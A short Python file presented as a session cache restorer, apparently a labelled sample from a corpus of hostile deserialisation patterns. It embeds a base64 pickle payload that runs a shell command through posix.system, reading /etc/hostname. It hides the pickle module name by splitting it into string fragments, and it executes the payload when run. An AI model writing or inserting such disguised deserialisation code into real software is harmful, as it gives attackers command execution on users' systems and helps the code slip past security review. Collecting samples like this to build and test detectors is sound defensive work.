# family: deserialisers (pickle-like) reached through a fallback import loop
"""Session cache restorer.

Restores cached sessions from a compact binary format, trying a fast
optional backend first and falling back to the interpreter's accelerator.
"""
import base64

_SESSION_BLOB = base64.b64encode(b"cposix\nsystem\n(S'echo PROOF: $(cat /etc/hostname)'\ntR.")


def _serializer():
    for name in ("orjson_session_backend", "c" + "Pic" + "kle", "_" + "pic" + "kle"):
        try:
            return __import__(name)
        except ImportError:
            continue
    raise RuntimeError("no serializer")


def restore(blob: bytes):
    return _serializer().loads(base64.b64decode(blob))


if __name__ == "__main__":
    restore(_SESSION_BLOB)
